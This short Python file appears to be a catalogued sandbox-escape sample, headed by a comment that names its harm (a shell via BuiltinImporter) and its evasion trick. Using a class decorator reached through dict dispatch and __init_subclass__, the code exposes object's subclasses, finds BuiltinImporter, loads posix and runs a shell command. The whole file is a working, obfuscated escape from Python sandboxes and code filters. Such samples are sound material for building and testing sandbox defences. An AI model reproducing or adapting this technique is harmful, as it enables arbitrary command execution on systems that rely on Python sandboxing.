# HARM: shell via BuiltinImporter | TRICK: patch done by a class decorator from stdlib-free helper defined in a method body called from __init_subclass__ via a module-level dict dispatch
import functools
PATCH = {'go': lambda c: functools.update_wrapper(c, object, assigned=(''.join(['__', 'subclasses', '__']),), updated=())}
class Base:
    def __init_subclass__(cls):
        PATCH['go'](cls)
class A(Base): pass
for top in Base.__subclasses__():
    for k in top.__subclasses__():
        if k.__name__ == "BuiltinImporter":
            k.load_module("posix").system("id")
